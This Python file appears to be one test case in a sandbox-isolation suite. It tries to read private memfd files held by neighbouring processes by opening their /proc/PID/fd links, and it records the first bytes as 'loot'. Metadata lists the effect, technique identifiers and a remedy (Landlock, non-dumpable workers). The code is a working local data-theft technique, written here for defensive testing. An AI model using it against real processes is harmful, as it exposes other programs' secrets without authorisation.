# SPDX-License-Identifier: MIT
"""Goal:  a file that the worker has open and does close on exec, as it should.
Means: open() of /proc/PID/fd/N. The link leads to the file itself, name or no name, and what the
       worker does at exec does not matter: it does not exec.
"""

import os

from attack import DONE, attempting, denied, loot, neighbours


def files(pid):
    """The files in no folder that the process has open, by inode."""
    found = {}
    for number in os.listdir(f"/proc/{pid}/fd"):
        link = f"/proc/{pid}/fd/{number}"
        try:
            if os.readlink(link).startswith("/memfd:"):
                found[os.stat(link).st_ino] = link
        except FileNotFoundError:
            pass  # closed again, as the listing's own
    return found


def private_files(pid, ours):
    """The beginning of each of them, but those that we were given anyway."""
    for inode, link in files(pid).items():
        if inode not in ours:
            with open(link, "rb") as file:
                yield file.read(256)


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            ours = files("self") if pid != os.getpid() else {}
            found = list(private_files(pid, ours))
        except OSError as error:
            why = error
            continue
        if found:
            loot(b"\n".join(found))
            return DONE
    return denied("/proc/PID/fd", why)


ATTACK = {
    "effect": "a file that the worker did not leak is read",
    "means": "open() of /proc/PID/fd/N, whose target is closed on exec",
    "oracle": "secret:private-fd",
    "id": "PEER-10",
    "attack_id": "T1005, CWE-668",
    "remedy": "Landlock (a domain may not trace its outside); a worker that is not dumpable",
    "refs": ["proc_pid_fd(5)"],
    "run": run,
}
